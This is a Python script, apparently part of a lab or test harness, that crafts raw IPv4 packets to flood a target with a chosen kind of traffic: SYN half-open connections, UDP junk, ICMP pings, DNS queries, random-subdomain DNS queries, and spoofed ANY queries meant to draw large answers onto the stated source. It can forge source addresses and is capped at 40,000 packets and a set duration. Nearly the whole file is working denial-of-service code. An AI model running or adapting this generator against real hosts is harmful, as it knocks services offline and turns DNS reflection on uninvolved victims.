"""A flood of one kind, bounded in packets and time. Run as `flood.py JSON`, in a namespace.

Raw IPv4 packets: syn (half-open connections), udp (junk), icmp (pings), dns (queries for the zone's
name), names (queries for ever new names of the domain), ask_as (one question with a large answer,
in the name of the order's source).
"""

import json
import random
import socket
import struct
import sys
import time

import dnswire

MOST_PACKETS = 40000
LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ip_header(source, target, protocol, size, ident, ttl=64):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + size, ident, 0, ttl, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:]


def transport(source, target, protocol, segment, at):
    """The segment with its checksum filled in at the offset `at`."""
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack(
        ">BBH", 0, protocol, len(segment))
    value = checksum(pseudo + segment)
    return segment[:at] + struct.pack(">H", value) + segment[at + 2:]


def packet(order, rng):
    source = order["source"]
    if order["invented"]:
        source = f"198.{rng.choice((18, 19))}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    port = rng.randrange(1024, 65536)
    if order["kind"] == "syn":
        segment = struct.pack(">HHIIBBHHH", port, order["port"], rng.getrandbits(32), 0, 0x50, 2,
                              64240, 0, 0)
        protocol, at = 6, 16
    elif order["kind"] == "icmp":
        head = struct.pack(">BBHHH", 8, 0, 0, rng.randrange(65536), rng.randrange(65536))
        segment = head + rng.randbytes(order.get("bytes") or 56)
        segment = head[:2] + struct.pack(">H", checksum(segment)) + segment[4:]
        return ip_header(source, order["target"], 1, len(segment), rng.randrange(65536)) + segment
    else:
        body = rng.randbytes(order.get("bytes") or rng.randrange(20, 300))
        if order["kind"] == "dns":
            body = dnswire.query(rng.randrange(65536), order["name"], "A", False)
        elif order["kind"] == "names":
            label = "x" + "".join(rng.choice(LETTERS) for _ in range(rng.randrange(6, 13)))
            body = dnswire.query(rng.randrange(65536), f"{label}.{order['domain']}", "A", False)
        elif order["kind"] == "ask_as":
            body = dnswire.query(rng.randrange(65536), f"large.{order['domain']}", "ANY")
        segment = struct.pack(">HHHH", port, order["port"], 8 + len(body), 0) + body
        protocol, at = 17, 6
    segment = transport(source, order["target"], protocol, segment, at)
    ident = rng.randrange(65536)
    return ip_header(source, order["target"], protocol, len(segment), ident) + segment


def main():
    order = json.loads(sys.argv[1])
    rng = random.Random(order["seed"])
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    # Each once: the same SYN again would look like a client's that waits for an answer.
    wanted = int(order["per_second"] * order["seconds"]) + 1
    ready = [packet(order, rng) for _ in range(min(wanted, MOST_PACKETS))]
    start, sent = time.monotonic(), 0
    while sent < MOST_PACKETS:
        passed = time.monotonic() - start
        if passed > order["seconds"]:
            return
        due = min(int(passed * order["per_second"]), MOST_PACKETS)
        for _ in range(due - sent):
            sock.sendto(ready[sent % len(ready)], (order["target"], 0))
            sent += 1
        time.sleep(0.005)


if __name__ == "__main__":
    main()
